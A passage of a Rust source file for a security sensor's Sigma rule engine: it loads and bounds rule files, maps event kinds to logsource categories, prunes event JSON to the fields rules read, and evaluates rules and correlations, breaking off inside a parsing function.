//! Sigma rules: read, checked and bounded before `sigma-rust` parses them.
//!
//! Rule files are operator input and events are attacker-controlled (argv,
//! exe paths), so what a rule may cost is bounded here: the file's size,
//! the rules per set, each regex's length and compiled size (the `regex`
//! crate matches in linear time; its compiled size is capped far below its
//! default), and the value strings. What `sigma-rust` would silently
//! ignore or misread is refused instead: another logsource product, an
//! unknown category, several documents in one file.

use std::{
    fmt,
    path::{Path, PathBuf},
    sync::Arc,
};

use serde_json::Value;
use serde_norway::Value as Yaml;

pub use super::correlation::{Correlation, Correlator};
use super::{
    correlation::Fields,
    typed::{self, Accessor},
};
use crate::event::{Event, Kind};

/// The logsource product every rule names.
pub const PRODUCT: &str = "agent-sensor";
/// A rule file's size, at most.
pub const MAX_FILE_BYTES: u64 = 256 * 1024;
/// Rules in one set, at most.
pub const MAX_RULES: usize = 1024;
/// A `|re` pattern's length, at most (characters).
pub const MAX_REGEX_LEN: usize = 1024;
/// A `|re` pattern's compiled size, at most (the regex crate's size limit).
pub const REGEX_SIZE_LIMIT: usize = 256 * 1024;
/// Any value string in a detection, at most (bytes).
pub const MAX_VALUE_LEN: usize = 4096;
/// Arrays in an event longer than this are cut before matching (argv of
/// a hostile process): the rest is not looked at.
pub const MAX_ARRAY_ITEMS: usize = 256;

/// The logsource categories: one per event kind (its name with `_` for
/// `.`), and the Sigma names of the two kinds that have one.
#[must_use]
pub fn categories(kind: Kind) -> &'static [&'static str] {
    match kind {
        Kind::ProcessSpawn => &["process_spawn"],
        Kind::ProcessExec => &["process_exec", "process_creation"],
        Kind::ProcessExit => &["process_exit"],
        Kind::NetworkConnect => &["network_connect", "network_connection"],
        Kind::SensorLost => &["sensor_lost"],
        Kind::RunStart => &["run_start"],
        Kind::RunEnd => &["run_end"],
        Kind::PolicyViolation => &["policy_violation"],
        Kind::RunDegraded => &["run_degraded"],
        Kind::ProcessTamper => &["process_tamper"],
        Kind::SensorTamper => &["sensor_tamper"],
        Kind::NetworkListen => &["network_listen"],
        Kind::NetworkAccept => &["network_accept"],
        Kind::NetworkSocket => &["network_socket"],
        Kind::SensorGap => &["sensor_gap"],
        Kind::SensorBlind => &["sensor_blind"],
        Kind::TokenIssued => &["token_issued"],
        Kind::RunCheckpoint => &["run_checkpoint"],
        Kind::Detection => &["detection"],
        Kind::ToolCall => &["tool_call"],
        Kind::TranscriptUnreadable => &["transcript_unreadable"],
        Kind::ToolUnobserved => &["tool_unobserved"],
        Kind::ToolUnexplained => &["tool_unexplained"],
    }
}

/// The kinds a category names.
fn kinds_of(category: &str) -> Vec<Kind> {
    Kind::all()
        .filter(|k| categories(*k).contains(&category))
        .collect()
}

/// A rule file refused, with where.
#[derive(Debug, thiserror::Error)]
pub enum RuleError {
    #[error("rules {path}: cannot read")]
    Read {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error("rules {path}:{line}: {message}")]
    At {
        path: PathBuf,
        line: usize,
        message: String,
    },
    #[error("rules {path}: more than {MAX_RULES} rules")]
    TooMany { path: PathBuf },
}

/// What a match reports of the rule that fired (a rule or a correlation).
#[derive(Debug, Clone)]
pub struct RuleInfo {
    /// The rule's `id`, or its file's name when it has none.
    pub id: String,
    pub title: String,
    pub level: &'static str,
    pub tags: Vec<String>,
    pub file: String,
}

/// A rule as loaded: what a match reports, the kinds it applies to, and
/// the parsed rule.
pub struct LoadedRule {
    pub info: RuleInfo,
    /// Its `name` (correlations name rules by it or by `id`).
    name: Option<String>,
    /// Kinds it applies to (empty: every kind but `detection`).
    kinds: Vec<Kind>,
    /// Counted by a correlation and not reported itself (Sigma's default
    /// unless the correlation says `generate: true`).
    quiet: bool,
    /// Fires only on the first event with its values of these fields
    /// (`first_seen`, see `first_seen.rs`).
    first_seen: Option<super::first_seen::Spec>,
    /// The event fields its detection reads (by name, as sigma-rust looks
    /// them up), or `None` when it reads every value (a keyword selection).
    fields: Option<Vec<String>>,
    /// Its condition requires a selection that asks `run.<member>|exists:
    /// true` of a member every run has ([`needs_run`]): it cannot match an
    /// event outside any run, which the daemon then does not hand to it.
    needs_run: bool,
    rule: sigma_rust::Rule,
}

impl fmt::Debug for LoadedRule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("LoadedRule")
            .field("info", &self.info)
            .finish_non_exhaustive()
    }
}

/// One file's rule.
#[derive(Debug)]
pub enum Loaded {
    Rule(Box<LoadedRule>),
    Correlation(Box<Correlation>),
}

/// The rules in force.
#[derive(Debug, Default)]
pub struct RuleSet {
    rules: Vec<LoadedRule>,
    /// Per kind (by [`Kind::index`]), the rules that apply.
    by_kind: Vec<Vec<usize>>,
    /// Per kind, every field its rules read (`None`: some rule reads every
    /// value): an event of that kind is handed to sigma-rust with these
    /// fields only ([`project`]), not converted whole.
    fields_by_kind: Vec<Option<Vec<String>>>,
    /// Per kind, what of an event's JSON form the rules and the
    /// correlations counting them read (`None`: all of it): the daemon
    /// writes only that ([`RuleSet::json_form`]).
    json_by_kind: Vec<Option<Vec<String>>>,
    /// Per kind, the rules' fields with their typed accessors, when every
    /// field the kind's rules, first-seen rules and correlations read has
    /// one (`None`: the kind is evaluated on its JSON form): the daemon
    /// reads them from the typed event ([`RuleSet::evaluate_event`]).
    typed_by_kind: Vec<Option<Vec<(String, Accessor)>>>,
    correlations: Vec<Correlation>,
    /// Per rule (by index), the correlations that count it.
    counted_by: Vec<Vec<usize>>,
}

impl RuleSet {
    /// Reads every path: a file, or a directory whose `*.yml`/`*.yaml`
    /// files are read in name order (not recursively).
    pub fn load(paths: &[PathBuf]) -> Result<Self, RuleError> {
        let mut loaded = Vec::new();
        for path in paths {
            let meta = std::fs::metadata(path).map_err(|source| RuleError::Read {
                path: path.clone(),
                source,
            })?;
            let files = if meta.is_dir() {
                let mut files: Vec<PathBuf> = std::fs::read_dir(path)
                    .map_err(|source| RuleError::Read {
                        path: path.clone(),
                        source,
                    })?
                    .filter_map(Result::ok)
                    .map(|e| e.path())
                    .filter(|p| {
                        p.extension().is_some_and(|e| e == "yml" || e == "yaml") && p.is_file()
                    })
                    .collect();
                files.sort();
                files
            } else {
                vec![path.clone()]
            };
            for file in files {
                loaded.push(load_file(&file)?);
                if loaded.len() > MAX_RULES {
                    return Err(RuleError::TooMany { path: path.clone() });
                }
            }
        }
        let mut rules = Vec::new();
        let mut correlations = Vec::new();
        for l in loaded {
            match l {
                Loaded::Rule(r) => rules.push(*r),
                Loaded::Correlation(c) => correlations.push(*c),
            }
        }
        Self::with_correlations(rules, correlations)
    }

    /// Rules and correlations; every rule a correlation names must be there.
    pub fn with_correlations(
        mut rules: Vec<LoadedRule>,
        correlations: Vec<Correlation>,
    ) -> Result<Self, RuleError> {
        let mut counted_by = vec![Vec::new(); rules.len()];
        for (ci, c) in correlations.iter().enumerate() {
            for r in &c.refs {
                let found: Vec<usize> = rules
                    .iter()
                    .enumerate()
                    .filter(|(_, x)| x.info.id == *r || x.name.as_deref() == Some(r.as_str()))
                    .map(|(i, _)| i)
                    .collect();
                if found.is_empty() {
                    return Err(RuleError::At {
                        path: PathBuf::from(&c.info.file),
                        line: c.refs_line.max(1),
                        message: format!("correlation.rules: no rule named or with id {r:?}"),
                    });
                }
                for i in found {
                    if let Some(list) = counted_by.get_mut(i) {
                        list.push(ci);
                    }
                    if !c.generate
                        && let Some(rule) = rules.get_mut(i)
                    {
                        rule.quiet = true;
                    }
                }
            }
        }
        let mut set = Self::of(rules);
        set.correlations = correlations;
        set.counted_by = counted_by;
        set.json_by_kind = set.json_fields();
        set.typed_by_kind = set.typed_fields();
        Ok(set)
    }

    #[must_use]
    pub fn of(rules: Vec<LoadedRule>) -> Self {
        let mut by_kind = vec![Vec::new(); Kind::COUNT];
        for (i, rule) in rules.iter().enumerate() {
            for kind in Kind::all() {
                let applies = if rule.kinds.is_empty() {
                    kind != Kind::Detection
                } else {
                    rule.kinds.contains(&kind)
                };
                if applies && let Some(list) = by_kind.get_mut(kind.index()) {
                    list.push(i);
                }
            }
        }
        let fields_by_kind = by_kind
            .iter()
            .map(|candidates| {
                let mut union = std::collections::BTreeSet::new();
                for &i in candidates {
                    union.extend(rules.get(i)?.fields.as_ref()?.iter().cloned());
                }
                (union.len() <= MAX_PROJECTED_FIELDS).then(|| union.into_iter().collect())
            })
            .collect();
        let counted_by = vec![Vec::new(); rules.len()];
        let mut set = Self {
            rules,
            by_kind,
            fields_by_kind,
            json_by_kind: Vec::new(),
            typed_by_kind: Vec::new(),
            correlations: Vec::new(),
            counted_by,
        };
        set.json_by_kind = set.json_fields();
        set.typed_by_kind = set.typed_fields();
        set
    }

    /// Per kind: the rules' fields, the fields a `first_seen` rule keys on,
    /// and the group-by and counted fields of the correlations counting
    /// them, with `time` (their windows).
    fn json_fields(&self) -> Vec<Option<Vec<String>>> {
        self.by_kind
            .iter()
            .enumerate()
            .map(|(k, candidates)| {
                let mut fields = self.fields_by_kind.get(k)?.clone()?;
                for &i in candidates {
                    // A first_seen rule keys its state on its own fields.
                    if let Some(spec) = self.rules.get(i).and_then(|r| r.first_seen.as_ref()) {
                        fields.extend(spec.fields.iter().cloned());
                        fields.push("time".to_owned());
                    }
                    for &ci in self.counted_by.get(i).map_or(&[][..], Vec::as_slice) {
                        if let Some(c) = self.correlations.get(ci) {
                            fields.extend(c.group_by.iter().cloned());
                            fields.extend(c.field.iter().cloned());
                            fields.push("time".to_owned());
                        }
                    }
                }
                fields.sort();
                fields.dedup();
                Some(fields)
            })
            .collect()
    }

    /// Per kind: the rules' fields and their accessors, when every field
    /// of the kind's JSON form ([`RuleSet::json_fields`]) has one.
    fn typed_fields(&self) -> Vec<Option<Vec<(String, Accessor)>>> {
        (0..self.by_kind.len())
            .map(|k| {
                let json = self.json_by_kind.get(k)?.as_ref()?;
                if !json.iter().all(|f| typed::accessor(f).is_some()) {
                    return None;
                }
                self.fields_by_kind
                    .get(k)?
                    .as_ref()?
                    .iter()
                    .map(|f| Some((f.clone(), typed::accessor(f)?)))
                    .collect()
            })
            .collect()
    }

    /// Whether the daemon reads events of `kind` typed (every field their
    /// rules read has a typed accessor) rather than as JSON.
    #[must_use]
    pub fn reads_typed(&self, kind: Kind) -> bool {
        self.typed_by_kind
            .get(kind.index())
            .is_some_and(Option::is_some)
    }

    /// What fires on one typed event (as [`RuleSet::evaluate`] on its JSON
    /// form): the daemon's path. The rules' fields are read from the typed
    /// event when they all have accessors ([`typed`]), else from its JSON
    /// form ([`RuleSet::json_form`]).
    pub fn evaluate_event<'s>(
        &'s self,
        state: &mut Correlator,
        event: &Event,
    ) -> Vec<&'s RuleInfo> {
        let kind = event.kind;
        let Some(Some(fields)) = self.typed_by_kind.get(kind.index()) else {
            return match self.json_form(kind, event) {
                Ok(value) => self.evaluate(state, kind, &value),
                Err(_) => Vec::new(),
            };
        };
        let Some(candidates) = self.by_kind.get(kind.index()) else {
            return Vec::new();
        };
        // Outside any run, the rules that need one cannot match: most of a
        // host's events skip the rules (and the building of their fields).
        let outside_run = event.run.is_none();
        let wanted = |i: usize| {
            self.rules
                .get(i)
                .is_some_and(|r| !(outside_run && r.needs_run))
        };
        if !candidates.iter().any(|&i| wanted(i)) {
            return Vec::new();
        }
        let mut sigma = sigma_rust::Event::new();
        for (name, read) in fields {
            if let Some(v) = read(event) {
                // An accessor never returns an object.
                let _ = put(&mut sigma, name, v);
            }
        }
        let hits = candidates
            .iter()
            .copied()
            .filter(|&i| wanted(i) && self.rules.get(i).is_some_and(|r| r.rule.is_match(&sigma)))
            .collect();
        self.decide(state, hits, &typed::Typed(event), || typed::time_of(event))
    }

    /// The JSON form of `event` (of `kind`) as [`RuleSet::evaluate`] needs
    /// it: only what the kind's rules and correlations read
    /// ([`pruned_value`]), or all of it when a rule reads every value.
    pub fn json_form<T: serde::Serialize + ?Sized>(
        &self,
        kind: Kind,
        event: &T,
    ) -> Result<Value, serde_json::Error> {
        match self.json_by_kind.get(kind.index()) {
            Some(Some(fields)) => pruned_value(event, fields),
            _ => serde_json::to_value(event),
        }
    }

    #[must_use]
    pub fn correlations(&self) -> &[Correlation] {
        &self.correlations
    }

    /// What fires on one event, in order: the rules it matches (but those
    /// only a correlation counts), then the correlations it completes.
    /// Correlation windows use the event's own `time`.
    pub fn evaluate<'s>(
        &'s self,
        state: &mut Correlator,
        kind: Kind,
        event: &Value,
    ) -> Vec<&'s RuleInfo> {
        let hits = self.matching(kind, event);
        self.decide(state, hits, event, || {
            event["time"]
                .as_str()
                .and_then(|t| humantime::parse_rfc3339(t).ok())
                .unwrap_or_else(std::time::SystemTime::now)
        })
    }

    /// Of the rules an event matched (`hits`), what fires: the first-seen
    /// rules keep only a first, then the rules (but those only a
    /// correlation counts), then the correlations it completes. `event`'s
    /// fields and its `time` are read as the JSON form has them.
    fn decide<'s, E: Fields + ?Sized>(
        &'s self,
        state: &mut Correlator,
        mut hits: Vec<usize>,
        event: &E,
        time_of: impl Fn() -> std::time::SystemTime,
    ) -> Vec<&'s RuleInfo> {
        // Read once, when a first-seen rule or a correlation needs it.
        let mut parsed = None;
        let mut time = || *parsed.get_or_insert_with(&time_of);
        hits.retain(|&i| match self.rules.get(i) {
            Some(LoadedRule {
                first_seen: Some(spec),
                info,
                ..
            }) => state.seen.first(&info.id, spec, event, time()),
            _ => true,
        });
        let mut out: Vec<&RuleInfo> = hits
            .iter()
            .filter_map(|&i| self.rules.get(i))
            .filter(|r| !r.quiet)
            .map(|r| &r.info)
            .collect();
        if self.correlations.is_empty() || hits.is_empty() {
            return out;
        }
        let time = time();
        let mut fed = Vec::new();
        for &i in &hits {
            for &ci in self.counted_by.get(i).map_or(&[][..], Vec::as_slice) {
                // One event counts once per correlation.
                if fed.contains(&ci) {
                    continue;
                }
                fed.push(ci);
                if let Some(c) = self.correlations.get(ci)
                    && state.feed(ci, c, event, time)
                {
                    out.push(&c.info);
                }
            }
        }
        out
    }

    /// The kinds some `first_seen` rule applies to (none: the set keeps
    /// no first-seen state).
    #[must_use]
    pub fn first_seen_kinds(&self) -> Vec<Kind> {
        Kind::all()
            .filter(|k| {
                self.by_kind.get(k.index()).is_some_and(|c| {
                    c.iter()
                        .any(|&i| self.rules.get(i).is_some_and(|r| r.first_seen.is_some()))
                })
            })
            .collect()
    }

    /// Whether every `first_seen` rule keys on `field` (so that events
    /// without it, or with another value, cannot change what they decide
    /// for a value).
    #[must_use]
    pub fn first_seen_keys_on(&self, field: &str) -> bool {
        self.rules
            .iter()
            .filter_map(|r| r.first_seen.as_ref())
            .all(|spec| spec.fields.iter().any(|f| f == field))
    }

    /// What `event` (of `kind`) makes seen, as the daemon's evaluation of
    /// it would have: each `first_seen` rule it matches remembers its
    /// values. Nothing is reported, no correlation is counted (`sensor
    /// rules test` replays the events before a run with it, so that the
    /// run's "first" are those the daemon found).
    pub fn remember(&self, state: &mut Correlator, kind: Kind, event: &Value) {
        let time = || {
            event["time"]
                .as_str()
                .and_then(|t| humantime::parse_rfc3339(t).ok())
                .unwrap_or_else(std::time::SystemTime::now)
        };
        for i in self.matching_where(kind, event, |r| r.first_seen.is_some()) {
            if let Some(LoadedRule {
                first_seen: Some(spec),
                info,
                ..
            }) = self.rules.get(i)
            {
                state.seen.first(&info.id, spec, event, time());
            }
        }
    }

    #[must_use]
    pub fn len(&self) -> usize {
        self.rules.len()
    }

    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    #[must_use]
    pub fn rules(&self) -> &[LoadedRule] {
        &self.rules
    }

    /// The rules that match an event of `kind` whose JSON form is `event`
    /// (the same JSON the outputs write and the store keeps), correlations
    /// aside.
    #[must_use]
    pub fn matches(&self, kind: Kind, event: &Value) -> Vec<&LoadedRule> {
        self.matching(kind, event)
            .into_iter()
            .filter_map(|i| self.rules.get(i))
            .collect()
    }

    /// Whether any rule applies to events of `kind` (when none does, an
    /// event of that kind needs no JSON form at all).
    #[must_use]
    pub fn applies(&self, kind: Kind) -> bool {
        self.by_kind
            .get(kind.index())
            .is_some_and(|c| !c.is_empty())
    }

    fn matching(&self, kind: Kind, event: &Value) -> Vec<usize> {
        self.matching_where(kind, event, |_| true)
    }

    /// [`RuleSet::matching`] among the rules `wanted` keeps.
    fn matching_where(
        &self,
        kind: Kind,
        event: &Value,
        wanted: impl Fn(&LoadedRule) -> bool,
    ) -> Vec<usize> {
        let Some(candidates) = self.by_kind.get(kind.index()) else {
            return Vec::new();
        };
        if !candidates
            .iter()
            .any(|&i| self.rules.get(i).is_some_and(&wanted))
        {
            return Vec::new();
        }
        let projected = match self.fields_by_kind.get(kind.index()) {
            Some(Some(fields)) => project(event, fields),
            _ => None,
        };
        let sigma = match projected {
            Some(sigma) => sigma,
            None => match sigma_rust::Event::try_from(flatten(event)) {
                Ok(sigma) => sigma,
                Err(_) => return Vec::new(),
            },
        };
        candidates
            .iter()
            .copied()
            .filter(|&i| {
                self.rules
                    .get(i)
                    .is_some_and(|r| wanted(r) && r.rule.is_match(&sigma))
            })
            .collect()
    }
}

/// The JSON form of `value` (a typed event) with only what looking up
/// `wanted` can reach: at each level, a member whose name is a wanted name
/// is written whole, one that starts a wanted name (`name.` then the rest)
/// is written pruned to the rest, any other is left out. Every way
/// sigma-rust and the correlations look a name up (whole first, or through
/// nested objects split at any dot) finds in it what it finds in the whole
/// JSON form, without the cost of writing the rest (`serde_json::to_value`
/// of a whole event is most of the detect thread's work per event).
pub fn pruned_value<T: serde::Serialize + ?Sized>(
    value: &T,
    wanted: &[String],
) -> Result<Value, serde_json::Error> {
    value.serialize(Pruner {
        wanted: wanted.iter().map(String::as_str).collect(),
    })
}

/// See [`pruned_value`]: objects (structs, maps) pruned to `wanted`,
/// anything else written whole by serde_json.
struct Pruner<'w> {
    wanted: Vec<&'w str>,
}

/// An object being pruned.
struct PrunedObject<'w> {
    wanted: Vec<&'w str>,
    map: serde_json::Map<String, Value>,
    key: Option<String>,
}

impl<'w> PrunedObject<'w> {
    fn member<T: serde::Serialize + ?Sized>(
        &mut self,
        key: &str,
        value: &T,
    ) -> Result<(), serde_json::Error> {
        let mut whole = false;
        let mut rest = Vec::new();
        for name in &self.wanted {
            if *name == key {
                whole = true;
            } else if let Some(r) = name.strip_prefix(key).and_then(|r| r.strip_prefix('.')) {
                rest.push(r);
            }
        }
        if whole {
            self.map
                .insert(key.to_owned(), serde_json::to_value(value)?);
        } else if !rest.is_empty() {
            self.map
                .insert(key.to_owned(), value.serialize(Pruner { wanted: rest })?);
        }
        Ok(())
    }
}

type Whole = serde_json::value::Serializer;

impl<'w> serde::Serializer for Pruner<'w> {
    type Ok = Value;
    type Error = serde_json::Error;
    type SerializeSeq = <Whole as serde::Serializer>::SerializeSeq;
    type SerializeTuple = <Whole as serde::Serializer>::SerializeTuple;
    type SerializeTupleStruct = <Whole as serde::Serializer>::SerializeTupleStruct;
    type SerializeTupleVariant = <Whole as serde::Serializer>::SerializeTupleVariant;
    type SerializeMap = PrunedObject<'w>;
    type SerializeStruct = PrunedObject<'w>;
    type SerializeStructVariant = <Whole as serde::Serializer>::SerializeStructVariant;

    fn serialize_bool(self, v: bool) -> Result<Value, Self::Error> {
        serde_json::value::Serializer.serialize_bool(v)
    }
    fn serialize_i8(self, v: i8) -> Result<Value, Self::Error> {
        serde_json::value::Serializer.serialize_i8(v)
    }
    fn serialize_i16(self, v: i16) -> Result<Value, Self::Error> {
        serde_json::value::Serializer.serialize_i16(v)
    }
    fn serialize_i32(self, v: i32) -> Result<Value, Self::Error> {
        serde_json::value::Serializer.serialize_i32(v)
    }
    fn serialize_i64(self, v: i64) -> Result<Value, Self::Error> {
        serde_json::value::Serializer.serialize_i64(v)
    }
    fn serialize_i128(self, v: i128) -> Result<Value, Self::Error> {
        serde_json::value::Serializer.serialize_i128(v)
    }
    fn serialize_u8(self, v: u8) -> Result<Value, Self::Error> {
        serde_json::value::Serializer.serialize_u8(v)
    }
    fn serialize_u16(self, v: u16) -> Result<Value, Self::Error> {
        serde_json::value::Serializer.serialize_u16(v)
    }
    fn serialize_u32(self, v: u32) -> Result<Value, Self::Error> {
        serde_json::value::Serializer.serialize_u32(v)
    }
    fn serialize_u64(self, v: u64) -> Result<Value, Self::Error> {
        serde_json::value::Serializer.serialize_u64(v)
    }
    fn serialize_u128(self, v: u128) -> Result<Value, Self::Error> {
        serde_json::value::Serializer.serialize_u128(v)
    }
    fn serialize_f32(self, v: f32) -> Result<Value, Self::Error> {
        serde_json::value::Serializer.serialize_f32(v)
    }
    fn serialize_f64(self, v: f64) -> Result<Value, Self::Error> {
        serde_json::value::Serializer.serialize_f64(v)
    }
    fn serialize_char(self, v: char) -> Result<Value, Self::Error> {
        serde_json::value::Serializer.serialize_char(v)
    }
    fn serialize_str(self, v: &str) -> Result<Value, Self::Error> {
        serde_json::value::Serializer.serialize_str(v)
    }
    fn serialize_bytes(self, v: &[u8]) -> Result<Value, Self::Error> {
        serde_json::value::Serializer.serialize_bytes(v)
    }
    fn serialize_none(self) -> Result<Value, Self::Error> {
        serde_json::value::Serializer.serialize_none()
    }
    fn serialize_some<T: serde::Serialize + ?Sized>(self, v: &T) -> Result<Value, Self::Error> {
        v.serialize(self)
    }
    fn serialize_unit(self) -> Result<Value, Self::Error> {
        serde_json::value::Serializer.serialize_unit()
    }
    fn serialize_unit_struct(self, name: &'static str) -> Result<Value, Self::Error> {
        serde_json::value::Serializer.serialize_unit_struct(name)
    }
    fn serialize_unit_variant(
        self,
        name: &'static str,
        index: u32,
        variant: &'static str,
    ) -> Result<Value, Self::Error> {
        serde_json::value::Serializer.serialize_unit_variant(name, index, variant)
    }
    fn serialize_newtype_struct<T: serde::Serialize + ?Sized>(
        self,
        _name: &'static str,
        v: &T,
    ) -> Result<Value, Self::Error> {
        v.serialize(self)
    }
    fn serialize_newtype_variant<T: serde::Serialize + ?Sized>(
        self,
        name: &'static str,
        index: u32,
        variant: &'static str,
        v: &T,
    ) -> Result<Value, Self::Error> {
        serde_json::value::Serializer.serialize_newtype_variant(name, index, variant, v)
    }
    fn serialize_seq(self, len: Option<usize>) -> Result<Self::SerializeSeq, Self::Error> {
        serde_json::value::Serializer.serialize_seq(len)
    }
    fn serialize_tuple(self, len: usize) -> Result<Self::SerializeTuple, Self::Error> {
        serde_json::value::Serializer.serialize_tuple(len)
    }
    fn serialize_tuple_struct(
        self,
        name: &'static str,
        len: usize,
    ) -> Result<Self::SerializeTupleStruct, Self::Error> {
        serde_json::value::Serializer.serialize_tuple_struct(name, len)
    }
    fn serialize_tuple_variant(
        self,
        name: &'static str,
        index: u32,
        variant: &'static str,
        len: usize,
    ) -> Result<Self::SerializeTupleVariant, Self::Error> {
        serde_json::value::Serializer.serialize_tuple_variant(name, index, variant, len)
    }
    fn serialize_map(self, _len: Option<usize>) -> Result<Self::SerializeMap, Self::Error> {
        Ok(PrunedObject {
            wanted: self.wanted,
            map: serde_json::Map::new(),
            key: None,
        })
    }
    fn serialize_struct(
        self,
        _name: &'static str,
        _len: usize,
    ) -> Result<Self::SerializeStruct, Self::Error> {
        Ok(PrunedObject {
            wanted: self.wanted,
            map: serde_json::Map::new(),
            key: None,
        })
    }
    fn serialize_struct_variant(
        self,
        name: &'static str,
        index: u32,
        variant: &'static str,
        len: usize,
    ) -> Result<Self::SerializeStructVariant, Self::Error> {
        serde_json::value::Serializer.serialize_struct_variant(name, index, variant, len)
    }
}

impl serde::ser::SerializeStruct for PrunedObject<'_> {
    type Ok = Value;
    type Error = serde_json::Error;

    fn serialize_field<T: serde::Serialize + ?Sized>(
        &mut self,
        key: &'static str,
        value: &T,
    ) -> Result<(), Self::Error> {
        self.member(key, value)
    }

    fn end(self) -> Result<Value, Self::Error> {
        Ok(Value::Object(self.map))
    }
}

impl serde::ser::SerializeMap for PrunedObject<'_> {
    type Ok = Value;
    type Error = serde_json::Error;

    fn serialize_key<T: serde::Serialize + ?Sized>(&mut self, key: &T) -> Result<(), Self::Error> {
        // As serde_json writes a key: a string, or a number or bool as text.
        self.key = Some(match serde_json::to_value(key)? {
            Value::String(s) => s,
            Value::Number(n) => n.to_string(),
            Value::Bool(b) => b.to_string(),
            _ => return Err(serde::ser::Error::custom("key must be a string")),
        });
        Ok(())
    }

    fn serialize_value<T: serde::Serialize + ?Sized>(
        &mut self,
        value: &T,
    ) -> Result<(), Self::Error> {
        let key = self.key.take().unwrap_or_default();
        self.member(&key, value)
    }

    fn end(self) -> Result<Value, Self::Error> {
        Ok(Value::Object(self.map))
    }
}

/// Fields a kind's rules may read for its events to be projected; more, and
/// the event is converted whole.
const MAX_PROJECTED_FIELDS: usize = 256;

/// The event as the rules see it ([`flatten`]), with only `fields` in it,
/// each under its full name (sigma-rust looks a name up whole before it
/// walks nested maps, so it finds each here as it would in the whole event):
/// what a rule reads is all that is copied. `None` when a field is an
/// object (sigma-rust keeps it as a map, which is not built here): the
/// caller converts the event whole.
fn project(event: &Value, fields: &[String]) -> Option<sigma_rust::Event> {
    let top = event.as_object()?;
    let mut sigma = sigma_rust::Event::new();
    for name in fields {
        match lookup(top, name) {
            Found::Absent => {}
            Found::Object => return None,
            Found::Value(v) => {
                if !put(&mut sigma, name, v.clone()) {
                    return None;
                }
            }
        }
    }
    Some(sigma)
}

/// Puts one field's JSON value into the rules' event as [`flatten`] and
/// sigma-rust would have it: an array of plain values joined, another
/// array left out; false (nothing put) for an object.
fn put(sigma: &mut sigma_rust::Event, name: &str, value: Value) -> bool {
    match value {
        Value::Null => sigma.insert(name, None::<i32>),
        Value::Bool(b) => sigma.insert(name, b),
        Value::String(text) => sigma.insert(name, text),
        Value::Number(n) => {
            if let Some(i) = n.as_i64() {
                sigma.insert(name, i);
            } else if let Some(u) = n.as_u64() {
                sigma.insert(name, u);
            } else if let Some(f) = n.as_f64() {
                sigma.insert(name, f);
            }
        }
        Value::Array(items) => {
            if let Some(joined) = joined(&items) {
                sigma.insert(name, joined);
            }
        }
        Value::Object(_) => return false,
    }
    true
}

/// What a field name finds in an event as sigma-rust's `Event::get` would
/// in its flattened form.
enum Found<'v> {
    Absent,
    /// A nested object.
    Object,
    Value(&'v Value),
}

/// sigma-rust's lookup (`Event::get`) over the JSON: the name whole, then
/// `head.tail` through nested objects (at each level the rest whole first).
/// An array of anything but plain values is absent, as [`flatten`] leaves
/// it out.
fn lookup<'v>(top: &'v serde_json::Map<String, Value>, name: &str) -> Found<'v> {
    let present = |v: &'v Value| match v {
        Value::Object(_) => Some(Found::Object),
        Value::Array(items) if joined(items).is_none() => None,
        v => Some(Found::Value(v)),
    };
    if let Some(found) = top.get(name).and_then(present) {
        return found;
    }
    let mut current = top;
    let mut rest = name;
    while let Some((head, tail)) = rest.split_once('.') {
        let Some(Value::Object(map)) = current.get(head) else {
            return Found::Absent;
        };
        if let Some(found) = map.get(tail).and_then(present) {
            return found;
        }
        current = map;
        rest = tail;
    }
    Found::Absent
}

/// The fields a rule's detection reads, from its YAML as sigma-rust reads
/// it: each selection's field names (before the first `|`), and for a
/// `|fieldref` field the fields its values name. `None` for a keyword
/// selection (a list of plain values), which reads every value.
fn detection_fields(detection: &Yaml) -> Option<Vec<String>> {
    let mut fields = Vec::new();
    let group = |map: &serde_norway::Mapping, fields: &mut Vec<String>| {
        for (key, values) in map {
            let Some(key) = key.as_str() else { continue };
            let mut parts = key.split('|');
            fields.push(parts.next().unwrap_or_default().to_owned());
            if parts.any(|m| m == "fieldref") {
                let named: Vec<&Yaml> = match values {
                    Yaml::Sequence(items) => items.iter().collect(),
                    other => vec![other],
                };
                for v in named {
                    match v {
                        Yaml::String(s) => fields.push(s.clone()),
                        Yaml::Number(n) => fields.push(n.to_string()),
                        Yaml::Bool(b) => fields.push(b.to_string()),
                        _ => {}
                    }
                }
            }
        }
    };
    for (name, selection) in detection.as_mapping()? {
        if name.as_str() == Some("condition") {
            continue;
        }
        match selection {
            Yaml::Mapping(map) => group(map, &mut fields),
            Yaml::Sequence(items) => {
                for item in items {
                    match item {
                        Yaml::Mapping(map) => group(map, &mut fields),
                        // A keyword selection: every value of the event.
                        _ => return None,
                    }
                }
            }
            _ => return None,
        }
    }
    fields.sort();
    fields.dedup();
    Some(fields)
}

/// The event as the rules see it: arrays of plain values (argv, scopes,
/// tags) become one string, their items joined by a space (sigma-rust
/// matches no field against an array), cut at [`MAX_ARRAY_ITEMS`]; other
/// arrays are left out.
fn flatten(value: &Value) -> Value {
    match value {
        Value::Object(map) => Value::Object(
            map.iter()
                .filter_map(|(k, v)| match v {
                    Value::Array(items) => joined(items).map(|s| (k.clone(), Value::String(s))),
                    other => Some((k.clone(), flatten(other))),
                })
                .collect(),
        ),
        other => other.clone(),
    }
}

fn joined(items: &[Value]) -> Option<String> {
    let mut out = String::new();
    for (i, item) in items.iter().take(MAX_ARRAY_ITEMS).enumerate() {
        if i > 0 {
            out.push(' ');
        }
        match item {
            Value::String(s) => out.push_str(s),
            Value::Number(n) => out.push_str(&n.to_string()),
            Value::Bool(b) => out.push_str(if *b { "true" } else { "false" }),
            _ => return None,
        }
    }
    Some(out)
}

/// Reads and checks one rule file.
pub fn load_file(path: &Path) -> Result<Loaded, RuleError> {
    let read = |source| RuleError::Read {
        path: path.to_owned(),
        source,
    };
    let meta = std::fs::metadata(path).map_err(read)?;
    if meta.len() > MAX_FILE_BYTES {
        return Err(RuleError::At {
            path: path.to_owned(),
            line: 1,
            message: format!("larger than {MAX_FILE_BYTES} bytes"),
        });
    }
    let text = std::fs::read_to_string(path).map_err(read)?;
    parse_any(&text, path)
}

/// A rule, or a correlation rule.
pub fn parse_any(text: &str, path: &Path) -> Result<Loaded, RuleError> {
    let is_correlation = serde_norway::from_str::<Yaml>(text)
        .ok()
        .is_some_and(|y| y.get("correlation").is_some());
    if !is_correlation {
